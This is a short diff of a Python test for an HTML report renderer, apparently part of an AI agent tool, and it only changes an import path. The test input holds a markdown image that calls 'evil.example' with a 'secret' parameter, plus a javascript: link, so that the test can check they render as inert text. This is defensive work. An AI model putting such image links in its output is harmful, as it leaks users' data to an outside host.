@@ -152,7 +152,7 @@ class TestReport:
         assert (tmp_path / "page.md").read_text() == before
 
     def test_remote_images_and_links_of_an_answer_stay_text(self, tmp_path: Path) -> None:
-        from edgewright.agent.repl.report import as_html
+        from edgewright.agent.repl.chat_report import as_html
 
         page = as_html(
             "![x](https://evil.example/?q=secret) [y](javascript:alert(1)) <img src=z> <https://a.b>"
